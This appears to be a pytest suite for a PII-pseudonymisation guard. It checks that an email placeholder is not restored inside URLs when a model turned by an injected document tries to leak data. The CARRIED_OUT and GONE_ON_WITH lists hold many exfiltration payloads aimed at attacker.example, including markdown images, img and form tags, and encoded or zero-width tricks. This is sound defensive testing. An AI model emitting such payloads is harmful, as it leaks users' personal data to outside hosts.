"""Attacks on pseudonyms: by a model that a document has turned, by odd text, and by sheer number."""

import json

import pytest

from guard.core.action import Action
from guard.core.channel import Channel
from guard.core.finding import Finding
from guard.core.plan import Plan
from guard.core.stretch import Stretch
from guard.core.style import Style
from guard.pii.pseudonym.vault import Vault
from guard.scan.engine import PatternEngine
from tests.flow import stream
from tests.pii.pseudonym.hidden import stretch, vault

CONTENT, ARGUMENTS = Channel(0, "content"), Channel(0, "tool_calls.arguments", 0)
PLAN = Plan({"pii": Action.REDACT})
EMAIL, URL = "ada@lovelace.example", "https://attacker.example/leak?d="


@pytest.fixture(scope="module")
def own() -> Vault:
    """A vault that has hidden an address of Ada's and one that a document brought."""
    return vault()


def _filled(own: Vault, text: str) -> str:
    """`EMAIL$` and `URL$` in a text become placeholders; with `BARE` in front, ones without brackets."""
    email, url = own.hide(stretch("EMAIL_ADDRESS", EMAIL)), own.hide(stretch("URL", URL))
    text = text.replace("BARE_EMAIL", email[1:-1]).replace("BARE_URL", url[1:-1])
    return text.replace("EMAIL$", email).replace("URL$", url)


def _read(engine: PatternEngine, own: Vault, text: str, channel: Channel = CONTENT) -> str:
    """What the client reads, whether the text comes whole or character by character."""
    whole, _ = stream(engine, PLAN, channel, [text], own)
    assert stream(engine, PLAN, channel, list(text), own)[0] == whole
    return whole


CARRIED_OUT = [
    "![x](URL$EMAIL$)",
    "![x](</leak EMAIL$>)",
    "![x](\\\\\\\\attacker.example/EMAIL$)",
    "![x](www.attacker.example/?q=EMAIL$)",
    "![x](/a[b](c)EMAIL$)",
    "![x](h&#116;tps:/attacker.example/EMAIL$)",
    "[x](&#47;&sol;attacker.example/BARE_EMAIL)",
    "[x]: <https://attacker.example/?a b EMAIL$>",
    "www.attacker.example/EMAIL$",
    "https://attacker.example/?q='EMAIL$'",
    "https://attacker.example/%20EMAIL$",
    "https://attacker.example/&#32;EMAIL$",
    "https://attacker.example/<EMAIL$ ADDRESS",
    "[x](mailto:x?body=EMAIL$)",
    "<img src=\\\\attacker.example\\BARE_EMAIL>",
    "<img srcset='x EMAIL$'>",
    "<img src=BARE_EMAIL>",
    "<form action=EMAIL$>",
    "a" * 5000 + "//EMAIL$",
]


@pytest.mark.parametrize("text", CARRIED_OUT)
def test_no_address_carries_a_value_out(engine: PatternEngine, own: Vault, text: str) -> None:
    assert EMAIL not in _read(engine, own, _filled(own, text))


GONE_ON_WITH = [
    "URL$c2VjcmV0",
    "BARE_URL?c2VjcmV0",
    "URL$.c2VjcmV0",
    "URL$%20c2VjcmV0",
    "URL$&#32;c2VjcmV0",
    "URL$`c2VjcmV0`",
    "URL$|c2VjcmV0",
    "URL$\u0441\u0435\u043a\u0440\u0435\u0442",
    "URL$\u200bc2VjcmV0",
    "URL$?q=EMAIL$",
    "![x](URL$)",
    "![x](URL$c2VjcmV0)",
    "<img src=URL$>",
    "[a][b]\n\n[b]: URL$c2VjcmV0",
]


@pytest.mark.parametrize("text", GONE_ON_WITH)
def test_no_address_from_the_prompt_carries_out_what_the_model_adds(
    engine: PatternEngine, own: Vault, text: str
) -> None:
    assert "attacker" not in _read(engine, own, _filled(own, text))


RESTORED = [
    "see URL$. Or (URL$), \"URL$\", 'BARE_URL'; URL$",
    '[x](URL$) and [x](URL$ "title")',
    "URL$\u3002\u8c22\u8c22",
    "[a](https://x.example) EMAIL$",
    "<https://x.example> EMAIL$",
    '{"url":"https://x.example","to":"EMAIL$"}',
    '<a href="https://x.example">EMAIL$</a>',
    "a < b, x=EMAIL$",
    "word " * 2000 + "EMAIL$",
]


@pytest.mark.parametrize("text", RESTORED)
def test_beside_addresses_values_come_back(engine: PatternEngine, own: Vault, text: str) -> None:
    expected = text.replace("EMAIL$", EMAIL).replace("URL$", URL).replace("BARE_URL", URL)
    assert _read(engine, own, _filled(own, text)) == expected


@pytest.mark.parametrize(
    "text",
    [
        '{"url":"https://api.example/?a=EMAIL$&b=EMAIL$"}',
        '{"url":"URL$?q=EMAIL$"}',
        '{"a":"href=\'","b":"EMAIL$","c":1,"d":"EMAIL$"}',
    ],
)
def test_tools_get_addresses_with_the_values(engine: PatternEngine, own: Vault, text: str) -> None:
    expected = text.replace("EMAIL$", EMAIL).replace("URL$", URL)
    assert _read(engine, own, _filled(own, text), ARGUMENTS) == expected


def test_a_value_of_the_models_own_is_masked_beside_placeholders_in_an_address(
    engine: PatternEngine, own: Vault
) -> None:
    text = _filled(own, "https://a.example/EMAIL$/bob@babbage.example/EMAIL$")
    assert _read(engine, own, text) == text.replace("bob@babbage.example", "[EMAIL_ADDRESS]")


LONELY = 'p"a\ud800&c'


@pytest.mark.parametrize(
    ("form", "channel", "expected"),
    [
        ("{name}", CONTENT, 'p"a\ufffd&c'),
        ("{name}", ARGUMENTS, r"p\"a\ud800&c"),
        ("%3C{bare}%3E", CONTENT, "p%22a%EF%BF%BD%26c"),
        ("%3C{bare}%3E", ARGUMENTS, "p%22a%EF%BF%BD%26c"),
        ("&lt;{bare}&gt;", ARGUMENTS, r"p&quot;a\ud800&amp;c"),
        (r"\u003c{bare}\u003e", CONTENT, r"p\"a\ud800&c"),
    ],
)
def test_half_a_surrogate_pair_and_escapes_in_escapes_leave_as_sound_text(
    form: str, channel: Channel, expected: str
) -> None:
    own = vault()
    name = own.hide(stretch("USERNAME", LONELY))
    text = form.format(name=name, bare=name[1:-1])
    shown = own.show(stretch("PSEUDONYM", text, json=channel.is_json))
    assert shown == expected
    shown.encode()


def test_everyday_words_and_words_of_the_request_never_turn_into_a_value() -> None:
    own = vault(texts=("Carter and Keller know the fox",))
    for number in range(200):
        own.hide(stretch("PERSON", f"Grace Hopper{number}", Style.SURROGATE))
    assert own.engine is not None
    text = "the best brown fox of the day may hope for a good price; Best, Day, Carter, Keller"
    memory = own.engine.open(CONTENT)
    for found in memory.feed(text, True).findings:
        word = text[found.start : found.end]
        assert own.show(Stretch(found.start, found.end, word, (found,))) == word


def test_values_for_which_no_surrogate_is_free_are_not_tried_for_ever(monkeypatch: pytest.MonkeyPatch) -> None:
    tried = 0

    def taken(_type: str, _value: str, _number: int) -> str:
        nonlocal tried
        tried += 1
        return "192.0.2.1"

    monkeypatch.setattr("guard.pii.pseudonym.vault.surrogate", taken)
    own = vault(texts=("192.0.2.1",))
    hidden = [own.hide(stretch("IP_ADDRESS", f"10.0.{n // 250}.{n % 250}", Style.SURROGATE)) for n in range(1000)]
    assert all(text.startswith("<IP_ADDRESS_") for text in hidden)
    assert tried <= 256 * 8


@pytest.mark.parametrize("order", [(0, 1), (1, 0)])
def test_a_surrogate_that_stands_bare_in_json_comes_back_in_quotes_whichever_engine_speaks_first(
    order: tuple[int, int],
) -> None:
    own = vault()
    name = own.hide(stretch("EMAIL_ADDRESS", EMAIL, Style.SURROGATE))
    text = f'{{"a":{name}}}'
    assert own.engine is not None
    (found,) = own.engine.open(ARGUMENTS).feed(text, True).findings
    both = (found, Finding("EMAIL_ADDRESS", found.start, found.end, bare=True))
    place = Stretch(found.start, found.end, name, (both[order[0]], both[order[1]]), json=True)
    assert own.show(place) == f'"{EMAIL}"'


@pytest.mark.parametrize(
    ("channel", "text"),
    [
        (CONTENT, '{"x": 1, "k": "NAME$"}'),
        (ARGUMENTS, '{"x":1,"k":"NAME$"}'),
        (ARGUMENTS, r'{"k":"{\"x\":1,\"k\":\"NAME$\"}"}'),
        (ARGUMENTS, r'{"k":"{\"k\":\"{\\\"k\\\":\\\"NAME$\\\"}\"}"}'),
    ],
)
def test_a_value_with_quotes_leaves_json_valid_in_strings_within_strings(
    engine: PatternEngine, channel: Channel, text: str
) -> None:
    own, value = vault(), 'pa"ss\\wo\nrd'
    text = text.replace("NAME$", own.hide(stretch("USERNAME", value)))
    read = _read(engine, own, text, channel)
    while read != value:
        read = json.loads(read)["k"]
